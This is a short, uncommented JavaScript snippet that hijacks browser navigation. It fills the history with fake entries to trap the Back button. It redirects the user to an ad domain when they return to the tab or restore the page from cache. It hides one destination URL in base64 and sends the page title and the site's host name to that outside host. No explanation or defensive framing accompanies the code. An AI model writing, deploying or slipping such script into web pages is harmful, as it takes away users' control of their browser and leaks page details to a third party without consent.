let gone = false;
document.addEventListener('visibilitychange', () => {
  if (document.hidden) { gone = true; return; }
  if (gone && !sessionStorage.rt) { sessionStorage.rt = 1; location.replace(window.atob('aHR0cHM6Ly9mZWVkLnJldHVybi1hZHMuZXhhbXBsZS9z') + '?k=' + encodeURIComponent(document.title)); }
});
window.addEventListener('pageshow', (e) => { if (e.persisted) location.replace('https://feed.return-ads.example/bf'); });
for (let i = 0; i < 8; i++) history.pushState({ i }, '', '#' + i);
window.onpopstate = () => { location.href = 'https://feed.return-ads.example/b?d=' + location.host; };
